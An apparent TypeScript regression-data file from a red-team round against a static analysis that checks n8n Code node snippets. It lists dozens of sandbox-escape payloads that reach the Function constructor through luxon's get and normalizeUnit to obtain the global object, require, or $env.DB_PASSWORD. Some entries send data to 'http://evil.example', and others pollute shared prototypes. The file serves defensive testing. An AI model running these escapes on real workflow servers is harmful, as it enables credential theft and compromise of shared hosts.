// Round 32 of the code-purity red team, 2026-12-03: black box against the points-to analysis after round 31's fixes,
// aimed at the host libraries n8n hands the code (luxon, Node's built-ins, n8n's data proxy); 224 entries, each re-checked
// by the oracle under n8n's Node 24. 65 bypasses (luxon-get-foreign-this 32, luxon-normalizeunit-host-object 14, luxon-get-host-object-write 3, luxon-callback-capability 11, returned-capability-function 5):
// luxon's DateTime#get is this[unit], so called on an object of the code's it hands out that object's inherited members
// (the Function constructor from an arrow's chain); Duration.normalizeUnit('constructor') is a lookup in a plain object of
// luxon's, the runner realm's Object; mapUnits and mapEndpoints call the capability they are handed. Fixed in n8n-model.ts:
// get and normalizeUnit are told apart from luxon's other functions (luxon-get: what the receiver holds at the key, its
// inherited members too; luxon-normalize-unit: what luxon's plain table inherits at the lowercased key), and a capability
// handed to luxon is one it may call. The other 5 (ROUND32_HANDS_N8N_A_FUNCTION) return $evaluateExpression or a helper
// function to n8n, which drops a function when it serializes the items: not a capability, as round 19 ruled.
import type { ChangeEntry, RoundEntry } from './red-team-round.js';

/** Bypasses that obtain a capability in the oracle. */
export const ROUND32_OBTAINING: RoundEntry[] = [
  {
    "id": "get-call-arrow-global",
    "code": "const F = DateTime.now().get.call(()=>0, 'constructor'); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-call-arrow-function",
    "code": "const F = DateTime.now().get.call(()=>0, 'constructor'); return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "get-apply-arrow",
    "code": "const F = DateTime.now().get.apply(()=>0, ['constructor']); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-bind-arrow",
    "code": "const g = DateTime.now().get.bind(()=>0); return g('constructor')('return this')();",
    "node24": true
  },
  {
    "id": "get-as-own-method",
    "code": "const fn = ()=>0; fn.pick = DateTime.now().get; return fn.pick('constructor')('return this')();",
    "node24": true
  },
  {
    "id": "get-async-arrow",
    "code": "const d = DateTime.fromISO('2024-01-01'); const F = d.get.call(async ()=>0, 'constructor'); return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "get-generator",
    "code": "const d = DateTime.now(); const G = d.get.call(function*(){}, 'constructor'); return [{json:{g: G}}];",
    "node24": true
  },
  {
    "id": "get-async-generator",
    "code": "const d = DateTime.now(); const G = d.get.call(async function*(){}, 'constructor'); return [{json:{g: G}}];",
    "node24": true
  },
  {
    "id": "get-interval-start",
    "code": "const i = Interval.fromDateTimes(DateTime.now(), DateTime.now().plus({days:1})); const F = i.start.get.call(()=>0,'constructor'); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-interval-end-detached",
    "code": "const get = Interval.fromDateTimes(DateTime.now(), DateTime.now()).end.get; return get.call(()=>0, 'constructor')('return this')();",
    "node24": true
  },
  {
    "id": "get-env-read",
    "code": "const d = DateTime.now(); const F = d.get.call(()=>0, 'constructor'); const g = F('return this')(); return [{json:{v: g.$env.DB_PASSWORD}}];",
    "node24": true
  },
  {
    "id": "get-require",
    "code": "const d = DateTime.now(); const F = d.get.call(()=>0, 'constructor'); return F('return require')()('fs');",
    "node24": true
  },
  {
    "id": "get-http-in-compiled",
    "code": "const d = DateTime.now(); const F = d.get.call(()=>0, 'constructor'); await F('return helpers.httpRequest({url:\"http://evil\"})')(); return [{json:{}}];",
    "node24": true
  },
  {
    "id": "get-concat-key",
    "code": "const d = DateTime.now(); const F = d.get.call(()=>0, 'con' + 'structor'); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-key-from-json",
    "code": "const d = DateTime.now(); const k = $json.key; const F = d.get.call(()=>0, k); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-eval",
    "code": "const d = DateTime.now(); const E = d.get.call(()=>0, 'constructor')('return eval')(); return E('this');",
    "node24": true
  },
  {
    "id": "get-helpers-via-get",
    "code": "const d = DateTime.now(); const F = d.get.call(()=>0, 'constructor'); const g = F('return this')(); const h = d.get.call(g, 'helpers'); await h.httpRequest({url:'http://evil'}); return [];",
    "node24": true
  },
  {
    "id": "get-env-via-get",
    "code": "const d = DateTime.now(); const g = d.get.call(()=>0, 'constructor')('return globalThis')(); return [{json:{v: d.get.call(d.get.call(g, '$env'), 'DB_PASSWORD')}}];",
    "node24": true
  },
  {
    "id": "get-static-data-leak",
    "code": "const d = DateTime.now(); const g = d.get.call(()=>0, 'constructor')('return this')(); const sd = $getWorkflowStaticData('global'); sd.leak = g.$env.DB_PASSWORD; return [];",
    "node24": true
  },
  {
    "id": "get-evaluate-expression",
    "code": "const d = DateTime.now(); const E = d.get.call(()=>0, 'constructor')('return $evaluateExpression')(); return [{json:{e: E}}];",
    "node24": true
  },
  {
    "id": "get-console-log-env",
    "code": "const d = DateTime.now(); const F = d.get.call(()=>0, 'constructor'); console.log(F('return $env')()); return [];",
    "node24": true
  },
  {
    "id": "get-destructured",
    "code": "const { get } = DateTime.now(); const F = get.call(()=>0, 'constructor'); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-in-map-callback",
    "code": "const d = DateTime.now(); const fns = [()=>1]; const F = fns.map(f => d.get.call(f, 'constructor'))[0]; return F('return this')();",
    "node24": true
  },
  {
    "id": "get-builtin-function-this",
    "code": "const get = DateTime.now().get; return [{json:{f: get.call(Math.max, 'constructor')}}];",
    "node24": true
  },
  {
    "id": "get-each-item",
    "code": "const F = DateTime.fromISO($json.email ? '2024-01-01' : '2024-01-02').get.call(()=>0, 'constructor'); return {json:{g: F('return this')()}};",
    "mode": "runOnceForEachItem",
    "node24": true
  },
  {
    "id": "get-utc-http",
    "code": "const F = DateTime.utc().get.call(()=>0, 'constructor'); await F('return this')().helpers.request({uri:'http://evil'}); return [];",
    "node24": true
  },
  {
    "id": "get-fromobject",
    "code": "const F = DateTime.fromObject({year: 2024}).get.call(()=>0, 'constructor'); return [{json:{g: F('return this')()}}];",
    "node24": true
  },
  {
    "id": "get-fromjsdate",
    "code": "const F = DateTime.fromJSDate(new Date(0)).get.call(()=>0, 'constructor'); return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "get-plus-chain",
    "code": "const F = DateTime.now().plus({days: 1}).startOf('day').get.call(()=>0, 'constructor'); return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "get-try-catch",
    "code": "let F; try { F = DateTime.now().get.call(()=>0, 'constructor'); } catch (e) { F = null; } return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "mapunits-httprequest",
    "code": "try { Duration.fromObject({hours: 1}).mapUnits(helpers.httpRequest); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapendpoints-request",
    "code": "try { Interval.fromDateTimes(DateTime.now(), DateTime.now()).mapEndpoints(helpers.request); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapendpoints-foreign-this-url",
    "code": "const i = Interval.fromDateTimes(DateTime.now(), DateTime.now()); try { i.mapEndpoints.call({ s: { url: 'http://evil.example/?' + $json.email }, e: 0 }, helpers.httpRequest); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapunits-require",
    "code": "try { Duration.fromObject({hours: 1}).mapUnits(require); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapendpoints-require-fs",
    "code": "const i = Interval.fromDateTimes(DateTime.now(), DateTime.now()); try { i.mapEndpoints.call({ s: 'fs', e: 'fs' }, require); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapunits-evaluate-expression",
    "code": "try { Duration.fromObject({hours: 1}).mapUnits($item(0).$evaluateExpression); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapunits-prepare-binary",
    "code": "try { Duration.fromObject({hours: 1}).mapUnits(helpers.prepareBinaryData); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapunits-get-binary-buffer",
    "code": "try { Duration.fromObject({hours: 1}).mapUnits(helpers.getBinaryDataBuffer); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapunits-aliased-helper",
    "code": "const f = helpers.request; try { Duration.fromObject({minutes: 5}).mapUnits(f); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapunits-computed-helper",
    "code": "const h = helpers; const name = 'httpRequest'; try { Duration.fromObject({minutes: 5}).mapUnits(h[name]); } catch {} return [];",
    "node24": true
  },
  {
    "id": "mapendpoints-httprequest-caught-error",
    "code": "const ok = []; try { Interval.fromDateTimes(DateTime.now(), DateTime.now()).mapEndpoints(helpers.httpRequest); } catch (e) { ok.push(1); } return [{json:{ok}}];",
    "node24": true
  },
  {
    "id": "ret-evaluate-expression",
    "code": "return [{json:{e: $evaluateExpression}}];",
    "node24": true
  },
  {
    "id": "ret-httprequest",
    "code": "return [{json:{h: helpers.httpRequest}}];",
    "node24": true
  },
  {
    "id": "ret-item-proxy-evaluate",
    "code": "const ev = $item(0).$item(0).$evaluateExpression; return [{json:{ev}}];",
    "node24": true
  },
  {
    "id": "ret-item-proxy-evaluate-each",
    "code": "return {json:{ev: $item($itemIndex).$evaluateExpression}};",
    "mode": "runOnceForEachItem",
    "node24": true
  },
  {
    "id": "ret-item-proxies-map",
    "code": "const proxies = items.map((_, i) => $item(i)); return [{json:{ev: proxies[0].$evaluateExpression}}];",
    "node24": true
  },
  {
    "id": "get-item-proxy-env",
    "code": "const d = DateTime.now(); return [{json:{v: d.get.call($item(0), '$env')}}];",
    "node24": true
  },
  {
    "id": "get-item-proxy-env-secret",
    "code": "const d = DateTime.now(); return [{json:{v: d.get.call(d.get.call($item(0), '$env'), 'DB_PASSWORD')}}];",
    "node24": true
  }
];

/** Bypasses that write onto state every later task shares (`wrote: true`, a control without the trick shows false). */
export const ROUND32_WRITES: ChangeEntry[] = [
  {
    "id": "nu-typedarray-proto-assign",
    "code": "const O = Duration.normalizeUnit('constructor'); const TA = O.getPrototypeOf(O.getPrototypeOf(Buffer.prototype)); O.assign(TA, {rt32: 1}); return [{json:{wrote: Buffer.from('a').rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-typedarray-proto-define",
    "code": "const O = Duration.normalizeUnit('constructor'); const TA = O.getPrototypeOf(O.getPrototypeOf(Buffer.prototype)); O.defineProperty(TA, 'rt32', {value: 1}); return [{json:{wrote: Buffer.from('a').rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-system-zone-assign",
    "code": "const O = Duration.normalizeUnit('constructor'); const z = DateTime.now().zone; O.assign(z, {rt32: 1}); return [{json:{wrote: DateTime.now().zone.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-date-full-preset",
    "code": "const O = Duration.normalizeUnit('constructor'); O.assign(DateTime.DATE_FULL, {rt32: 1}); return [{json:{wrote: DateTime.DATE_FULL.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-datetime-class-static",
    "code": "const O = Duration.normalizeUnit('constructor'); O.assign(DateTime, {rt32: 1}); return [{json:{wrote: DateTime.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-system-zone-proto",
    "code": "const O = Duration.normalizeUnit('constructor'); O.assign(O.getPrototypeOf(DateTime.now().zone), {rt32: 1}); return [{json:{wrote: DateTime.now().zone.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-intl-dtf-proto",
    "code": "const dtf = DateTime.now().loc.dtFormatter(DateTime.now(), {}).dtf; const O = Duration.normalizeUnit('constructor'); O.assign(O.getPrototypeOf(dtf), {rt32: 1}); return [{json:{wrote: DateTime.now().loc.dtFormatter(DateTime.now(), {}).dtf.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-iana-zone-cache",
    "code": "const O = Duration.normalizeUnit('constructor'); O.assign(DateTime.now().setZone('Europe/Paris').zone, {rt32: 1}); return [{json:{wrote: DateTime.now().setZone('Europe/Paris').zone.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-utc-zone-offset",
    "code": "const O = Duration.normalizeUnit('constructor'); O.assign(DateTime.utc().zone, {rt32: 1}); return [{json:{wrote: DateTime.utc().zone.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-locale-proto",
    "code": "const O = Duration.normalizeUnit('constructor'); O.assign(O.getPrototypeOf(DateTime.now().loc), {rt32: 1}); return [{json:{wrote: DateTime.now().loc.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-array-iterator-proto",
    "code": "const O = Duration.normalizeUnit('constructor'); const it = Buffer.from('ab').values(); O.assign(O.getPrototypeOf(it), {rt32: 1}); return [{json:{wrote: Buffer.from('c').keys().rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-formdata-iterator-proto",
    "code": "const fd = new FormData(); fd.append('a','b'); const it = fd.entries(); const O = Duration.normalizeUnit('constructor'); O.assign(O.getPrototypeOf(it), {rt32: 1}); return [{json:{wrote: new FormData().keys().rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-via-instance-constructor",
    "code": "const O = Duration.fromMillis(1).constructor.normalizeUnit('constructor'); O.assign(DateTime.TIME_SIMPLE, {rt32: 1}); return [{json:{wrote: DateTime.TIME_SIMPLE.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-freeze-shared-zone",
    "code": "const O = Duration.normalizeUnit('constructor'); O.freeze(DateTime.now().zone); return [{json:{wrote: O.isFrozen(DateTime.now().zone)}}];",
    "node24": true
  },
  {
    "id": "getobj-typedarray-proto",
    "code": "const d = DateTime.now(); const O = d.get.call(d.toObject(), 'constructor'); O.assign(O.getPrototypeOf(O.getPrototypeOf(Buffer.prototype)), {rt32: 1}); return [{json:{wrote: Buffer.alloc(1).rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "getfn-compiled-zone-write",
    "code": "const F = DateTime.now().get.call(()=>0, 'constructor'); F('DateTime.now().zone.rt32 = 1')(); return [{json:{wrote: DateTime.now().zone.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "getfn-compiled-datetime-static",
    "code": "const F = DateTime.now().get.call(()=>0, 'constructor'); F('DateTime.fromISO = () => DateTime.fromMillis(0)')(); return [{json:{wrote: DateTime.fromISO('2024-01-01').year === 1970}}];",
    "node24": true
  }
];

/** Attempts the analysis reported when the round was written. */
export const ROUND32_CAUGHT_OBTAINING: RoundEntry[] = [
  {
    "id": "fd-launder-array",
    "code": "const fd = new FormData(); fd.append('a','b'); const arr = []; fd.forEach(function(){ arr.push(this); }); return [{json:{p: arr.map(x => x.process)}}];",
    "node24": true
  },
  {
    "id": "fd-launder-computed-key",
    "code": "const fd = new FormData(); fd.append('a','b'); let g; fd.forEach(function(){ g = this; }, undefined); const k = 'proc' + 'ess'; return [{json:{p: g[k]}}];",
    "node24": true
  },
  {
    "id": "mapendpoints-apply-caught",
    "code": "const d = DateTime.now(); try { Interval.fromDateTimes(d, d).mapEndpoints.apply({ s: { url: 'http://evil.example' }, e: 1 }, [helpers.httpRequest]); } catch {} return [];",
    "node24": true
  },
  {
    "id": "setzone-duck-zone-helper",
    "code": "try { DateTime.now().setZone({ isValid: true, offset: helpers.httpRequest, name: 'x', equals: () => false, type: 'x' }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "fromobject-duck-zone-helper",
    "code": "try { DateTime.fromObject({}, { zone: { isValid: true, offset: helpers.httpRequest, name: 'x', equals: () => false } }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "formdata-foreach-helper",
    "code": "const fd = new FormData(); fd.append('url', 'http://evil'); try { fd.forEach(helpers.httpRequest); } catch {} return [];",
    "node24": true
  },
  {
    "id": "buffer-foreach-helper",
    "code": "try { Buffer.from('a').forEach(helpers.httpRequest); } catch {} return [];",
    "node24": true
  },
  {
    "id": "settimeout-helper",
    "code": "setTimeout(helpers.httpRequest, 0, { url: 'http://evil' }); return [];",
    "node24": true
  },
  {
    "id": "datetime-max-valueof-helper",
    "code": "try { DateTime.max({ isLuxonDateTime: true, valueOf: helpers.httpRequest }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "duration-fromobject-valueof-helper",
    "code": "try { Duration.fromObject({ hours: { valueOf: helpers.httpRequest } }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "equals-valueof-helper",
    "code": "try { DateTime.now().equals({ isValid: true, valueOf: helpers.httpRequest }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "buffer-from-valueof-helper",
    "code": "try { Buffer.from({ valueOf: helpers.httpRequest }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "until-valueof-helper",
    "code": "try { DateTime.now().until({ isLuxonDateTime: true, isValid: true, valueOf: helpers.httpRequest }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "splitby-duck-duration-helper",
    "code": "const h = helpers; try { Interval.fromDateTimes(DateTime.now(), DateTime.now().plus({hours: 2})).splitBy({ isLuxonDuration: true, isValid: true, as: h.httpRequest, toMillis: () => 1 }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "item-proxy-env",
    "code": "return [{json:{v: $item(0).$env.DB_PASSWORD}}];",
    "node24": true
  },
  {
    "id": "item-proxy-env-computed",
    "code": "const p = $item(1); return [{json:{v: p['$' + 'env'].DB_PASSWORD}}];",
    "node24": true
  },
  {
    "id": "item-proxy-env-scan",
    "code": "const px = $item(0); return [{json:{all: Object.values(px).filter(v => v && typeof v === 'object' && 'DB_PASSWORD' in v).map(v => ({...v}))}}];",
    "node24": true
  },
  {
    "id": "item-proxy-evaluate-call",
    "code": "return [{json:{v: $item(0).$evaluateExpression('{{ $env.DB_PASSWORD }}')}}];",
    "node24": true
  },
  {
    "id": "evaluate-via-replace",
    "code": "const ev = $item(0).$evaluateExpression; try { 'a'.replace('a', ev); } catch {} return [];",
    "node24": true
  },
  {
    "id": "evaluate-via-thenable",
    "code": "const ev = $item(0).$evaluateExpression; try { await { then: ev }; } catch {} return [];",
    "node24": true
  },
  {
    "id": "evaluate-via-valueof",
    "code": "const ev = $item(0).$evaluateExpression; try { ({ valueOf: ev }) + 1; } catch {} return [];",
    "node24": true
  },
  {
    "id": "ret-require",
    "code": "return [{json:{r: require}}];",
    "node24": true
  },
  {
    "id": "ret-helpers-object",
    "code": "return [{json:{h: helpers}}];",
    "node24": true
  },
  {
    "id": "todurarion-foreign-this-helper",
    "code": "const i = Interval.fromDateTimes(DateTime.now(), DateTime.now()); try { i.toDuration.call({ isValid: true, e: { diff: helpers.httpRequest }, s: { url: 'http://evil.example' } }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "tojson-foreign-this-helper",
    "code": "const d = DateTime.now(); try { d.toJSON.call({ toISO: helpers.httpRequest }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "get-on-helpers",
    "code": "const d = DateTime.now(); const r = d.get.call(helpers, 'httpRequest'); await r({ url: 'http://evil.example' }); return [];",
    "node24": true
  },
  {
    "id": "interval-tostring-foreign-this",
    "code": "const i = Interval.fromDateTimes(DateTime.now(), DateTime.now()); try { i.toString.call({ isValid: true, s: { toISO: helpers.request }, e: { toISO: () => 'x' } }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "interval-length-foreign-this",
    "code": "const i = Interval.fromDateTimes(DateTime.now(), DateTime.now()); try { i.length.call({ isValid: true, toDuration: () => ({ get: helpers.httpRequest }) }, { url: 'http://e' }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "duration-tojson-foreign-this",
    "code": "const dur = Duration.fromObject({ hours: 1 }); try { dur.toJSON.call({ toISO: helpers.httpRequest }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "valueof-foreign-this-require",
    "code": "const d = DateTime.now(); try { d.valueOf.call({ toMillis: require }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "setlocale-foreign-this",
    "code": "const d = DateTime.now(); try { d.setLocale.call({ reconfigure: helpers.httpRequest }, { url: 'http://evil.example' }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "tolocal-foreign-this",
    "code": "const d = DateTime.now(); try { d.toLocal.call({ setZone: require }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "reconfigure-foreign-this",
    "code": "const d = DateTime.now(); try { d.reconfigure.call({ loc: { clone: helpers.httpRequest } }, { url: 'http://evil.example' }); } catch {} return [];",
    "node24": true
  },
  {
    "id": "get-prototype-direct",
    "code": "const F = DateTime.prototype.get.call(function(){}, 'constructor'); return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "get-reflect-apply",
    "code": "const F = Reflect.apply(DateTime.now().get, ()=>0, ['constructor']); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-function-expression-this",
    "code": "const d = DateTime.now(); const F = d.get.call(function(){}, 'constructor'); return F('return this')();",
    "node24": true
  },
  {
    "id": "get-object-method",
    "code": "const o = { pick: DateTime.utc().get }; const F = o.pick.call(function(){}, 'constructor'); return F('return helpers')().httpRequest({url:'http://x'});",
    "node24": true
  },
  {
    "id": "get-class-this",
    "code": "const get = DateTime.fromMillis(0).get; return [{json:{f: get.call(class {}, 'constructor')}}];",
    "node24": true
  },
  {
    "id": "get-wrapped-helper",
    "code": "const d = DateTime.now(); const pick = (o, k) => d.get.call(o, k); const F = pick(pick, 'constructor'); return F('return this')();",
    "node24": true
  },
  {
    "id": "mapunits-sloppy-this",
    "code": "let g; Duration.fromObject({hours:1}).mapUnits(function(x){ g = this; return x; }); return g;",
    "node24": true
  },
  {
    "id": "mapendpoints-sloppy-this",
    "code": "let g; Interval.fromDateTimes(DateTime.now(), DateTime.now()).mapEndpoints(function(d){ g = this; return d; }); return g;",
    "node24": true
  },
  {
    "id": "formdata-foreach-host-global",
    "code": "let g; const fd = new FormData(); fd.append('a','b'); fd.forEach(function(){ g = this; }); return g;",
    "node24": true
  },
  {
    "id": "formdata-foreach-process",
    "code": "let p; const fd = new FormData(); fd.append('a','b'); fd.forEach(function(){ p = this.process; }); return [{json:{p}}];",
    "node24": true
  },
  {
    "id": "formdata-foreach-process-env",
    "code": "const fd = new FormData(); fd.append('a','b'); let out; fd.forEach(function(){ out = this.process.env; }); return [{json:{out}}];",
    "node24": true
  },
  {
    "id": "formdata-get-process",
    "code": "const fd = new FormData(); fd.append('a','b'); let g; fd.forEach(function(){ g = this; }); const pr = DateTime.now().get.call(g, 'process'); return [{json:{pr}}];",
    "node24": true
  },
  {
    "id": "formdata-get-process-env",
    "code": "const fd = new FormData(); fd.append('a','b'); const d = DateTime.now(); let env; fd.forEach(function(){ env = d.get.call(d.get.call(this, 'process'), 'env'); }); return [{json:{env}}];",
    "node24": true
  },
  {
    "id": "buffer-foreach-sloppy-this",
    "code": "let g; Buffer.from('ab').forEach(function(){ g = this; }); return g;",
    "node24": true
  },
  {
    "id": "replace-callback-this",
    "code": "let g; 'ab'.replace('a', function(){ g = this; return ''; }); return g;",
    "node24": true
  },
  {
    "id": "datetime-max-launder",
    "code": "const a = ()=>0; a.isLuxonDateTime = true; const F = DateTime.max(a).constructor; return F('return this')();",
    "node24": true
  },
  {
    "id": "datetime-max-valueof",
    "code": "const fn = ()=>0; fn.isLuxonDateTime = true; fn.valueOf = () => 1; const same = DateTime.max(fn); return same.constructor('return this')();",
    "node24": true
  },
  {
    "id": "datetime-min-launder",
    "code": "const a = ()=>0; a.isLuxonDateTime = true; const F = DateTime.min(a, a).constructor; return [{json:{f:F}}];",
    "node24": true
  },
  {
    "id": "duration-fromdurationlike-launder",
    "code": "const fn = ()=>0; fn.isLuxonDuration = true; const same = Duration.fromDurationLike(fn); return same.constructor('return this')();",
    "node24": true
  },
  {
    "id": "interval-fromdatetimes-launder",
    "code": "const fn = ()=>0; fn.isLuxonDateTime = true; fn.isValid = true; fn.valueOf = () => 1; const i = Interval.fromDateTimes(fn, DateTime.now()); return i.start.constructor('return this')();",
    "node24": true
  },
  {
    "id": "interval-merge-launder",
    "code": "const a = ()=>0; const [F0] = Interval.merge([a]); return F0.constructor('return this')();",
    "node24": true
  },
  {
    "id": "until-returns-this",
    "code": "const fn = function(){}; const same = DateTime.now().until.call(fn); return same.constructor('return this')();",
    "node24": true
  },
  {
    "id": "nu-getprototypeof-fn",
    "code": "const O = Duration.normalizeUnit('constructor'); const P = O.getPrototypeOf(()=>0); return [{json:{f: P.constructor}}];",
    "node24": true
  },
  {
    "id": "nu-descriptor-fn-ctor",
    "code": "const O = Duration.normalizeUnit('constructor'); const f = O.getOwnPropertyDescriptor(O.getPrototypeOf(()=>0), 'constructor'); return [{json:{f: f.value}}];",
    "node24": true
  },
  {
    "id": "nu-descriptors-values",
    "code": "const O = Duration.normalizeUnit('constructor'); return [{json:{f: O.values(O.getOwnPropertyDescriptors(O.getPrototypeOf(()=>0))).map(d => d.value)}}];",
    "node24": true
  },
  {
    "id": "sloppy-this-iife",
    "code": "return (function(){ return this })();",
    "node24": true
  },
  {
    "id": "arrow-ctor",
    "code": "return [{json:{f: (()=>0).constructor}}];",
    "node24": true
  },
  {
    "id": "toprimitive-sloppy",
    "code": "let g; const o = { [Symbol.toPrimitive]: function () { g = this; return 1; } }; +o; const f = function(){ return this; }; return [{json:{g: f.call(undefined)}}];",
    "node24": true
  },
  {
    "id": "tagged-template-sloppy",
    "code": "const t = function () { return this; }; return [{json:{g: t`x`}}];",
    "node24": true
  },
  {
    "id": "thenable-sloppy",
    "code": "const g = await { then: function (r) { r((function () { return this; })()); } }; return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "getter-on-proto-sloppy",
    "code": "const o = { get x() { return (function () { return this; })(); } }; return [{json:{g: o.x}}];",
    "node24": true
  },
  {
    "id": "iterator-helper-map-this",
    "code": "const g = [1].values().map(function () { return this; }).toArray()[0]; return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "groupby-callback-this",
    "code": "const r = Object.groupBy([1], function () { return 'k'; }); let g; Map.groupBy([1], function () { g = this; return 1; }); return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "array-fromasync-this",
    "code": "let g; await Array.fromAsync([1], function (x) { g = this; return x; }); return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "using-dispose-this",
    "code": "let g; { using r = { [Symbol.dispose]: function () { g = (function () { return this; })(); } }; } return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "proxy-get-trap-this",
    "code": "let g; const p = new Proxy({}, { get: function () { g = (function () { return this; })(); return 1; } }); p.x; return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "finalization-registry",
    "code": "const fr = new FinalizationRegistry(function () {}); const F = fr.register.constructor; return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "weakref-deref-ctor",
    "code": "const w = new WeakRef(() => 0); return [{json:{f: w.deref().constructor}}];",
    "node24": true
  },
  {
    "id": "symbol-hasinstance-this",
    "code": "let g; const C = { [Symbol.hasInstance]: function () { g = (function(){ return this; })(); return true; } }; ({}) instanceof C; return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "promise-all-resolve-ctor",
    "code": "const F = await Promise.resolve((async () => 0).constructor); return [{json:{f: F}}];",
    "node24": true
  },
  {
    "id": "regexp-groups-ctor",
    "code": "const m = /(?<a>x)/.exec('x'); return [{json:{f: m.groups.a.constructor.constructor}}];",
    "node24": true
  },
  {
    "id": "intl-segmenter-ctor",
    "code": "const seg = new Intl.Segmenter().segment('ab'); return [{json:{f: seg[Symbol.iterator]().next.constructor}}];",
    "node24": true
  },
  {
    "id": "generator-return-this",
    "code": "function* gen() { try { yield 1; } finally { return (function () { return this; })(); } } const it = gen(); it.next(); return [{json:{g: it.return().value}}];",
    "node24": true
  },
  {
    "id": "destructure-default-this",
    "code": "const { g = (function () { return this; })() } = {}; return [{json:{g}}];",
    "node24": true
  },
  {
    "id": "item-each-get",
    "code": "return {json:{f: (function () { return this; })()}};",
    "mode": "runOnceForEachItem",
    "node24": true
  }
];
export const ROUND32_CAUGHT_WRITES: ChangeEntry[] = [
  {
    "id": "nu-datetime-now-replaced",
    "code": "const O = Duration.normalizeUnit('constructor'); const real = DateTime.fromISO('2000-01-01'); O.assign(DateTime, {now: () => real}); return [{json:{wrote: DateTime.now().year === 2000}}];",
    "node24": true
  },
  {
    "id": "nu-custom-lowercase",
    "code": "const O = Duration.normalizeUnit({ toLowerCase: () => 'constructor' }); O.assign(DateTime.DATE_SHORT, {rt32: 1}); return [{json:{wrote: DateTime.DATE_SHORT.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-timeout-proto",
    "code": "const O = Duration.normalizeUnit('constructor'); const t = setTimeout(() => {}, 1); clearTimeout(t); O.assign(O.getPrototypeOf(t), {rt32: 1}); const t2 = setTimeout(() => {}, 1); clearTimeout(t2); return [{json:{wrote: t2.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-duration-class-static",
    "code": "const O = Duration.normalizeUnit('constructor'); O.defineProperty(Duration, 'fromObject', { value: () => 7 }); return [{json:{wrote: Duration.fromObject({hours: 1}) === 7}}];",
    "node24": true
  },
  {
    "id": "json-ctor-assign-preset",
    "code": "const O = $input.first().json.constructor; O.assign(DateTime.DATE_MED, {rt32: 1}); return [{json:{wrote: DateTime.DATE_MED.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "static-data-ctor-assign",
    "code": "const O = $getWorkflowStaticData('global').constructor; O.assign(DateTime.DATE_MED, {rt32: 1}); return [{json:{wrote: DateTime.DATE_MED.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "locale-parts-ctor-assign",
    "code": "const O = DateTime.now().toLocaleParts()[0].constructor; O.assign(DateTime.DATE_MED, {rt32: 1}); return [{json:{wrote: DateTime.DATE_MED.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "locale-class-static",
    "code": "const X = DateTime.now().loc.constructor; X.rt32 = 1; return [{json:{wrote: DateTime.now().loc.constructor.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "zone-direct-write",
    "code": "const z = DateTime.now().zone; z.rt32 = 1; return [{json:{wrote: z.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "zone-object-assign",
    "code": "const z = DateTime.now().zone; Object.assign(z, {rt32: 1}); return [{json:{wrote: DateTime.now().zone.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "date-full-object-assign",
